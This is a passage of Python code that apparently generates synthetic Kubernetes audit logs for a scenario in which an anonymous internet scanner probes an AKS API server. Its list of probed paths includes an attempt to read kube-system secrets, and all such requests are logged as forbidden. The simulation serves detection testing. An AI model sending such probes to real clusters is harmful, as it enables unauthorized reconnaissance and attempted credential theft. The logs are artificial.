        name=replicaset["metadata"]["name"],
    )


# --------------------------------------------------------------------------- anonymous scan


@scenario("aks_anonymous_scan", "aks", ("anonymous_probe",))
def aks_anonymous_scan(ctx: SimContext) -> Stages:
    """An internet scanner finds the public API server endpoint and tries it without
    credentials: the version answers, everything else is forbidden."""
    t = _Intrusion(ctx, "aks_anonymous_scan", incident_start(ctx, "aks-anonymous"))
    public = k8s._rbac(
        "system:public-info-viewer", "system:public-info-viewer", "Group", "system:unauthenticated"
    )
    for agent, path in (
        (SCANNER_AGENTS[0], "/version"),
        (SCANNER_AGENTS[0], "/healthz"),
        (SCANNER_AGENTS[1], "/api"),
        (SCANNER_AGENTS[1], "/api/v1/namespaces"),
        (SCANNER_AGENTS[1], "/api/v1/pods"),
        (SCANNER_AGENTS[1], "/api/v1/namespaces/kube-system/secrets"),
        (SCANNER_AGENTS[1], "/apis/apps/v1/deployments"),
        (SCANNER_AGENTS[1], "/api/v1/nodes"),
    ):
        who = k8s._Who(
            "system:anonymous",
            ("system:unauthenticated",),
            agent,
            (SCANNER_IP, k8s._PROXY_HOPS[1]),
            public,
        )
        resource = k8s._object_ref(path, None) is not None
        allowed = path in ("/version", "/healthz")
        verb = "list" if resource else "get"
        row = t.emit("anonymous_probe", who, verb, path, after=3, code=200 if allowed else 403)
        if not resource and not allowed:  # a path, not a resource: the message says so
            row["ResponseStatus"] = {
                "metadata": {},
                "status": "Failure",
                "message": f'forbidden: User "system:anonymous" cannot get path "{path}"',
                "reason": "Forbidden",
                "details": {},
                "code": 403,
            }
    return t.stages
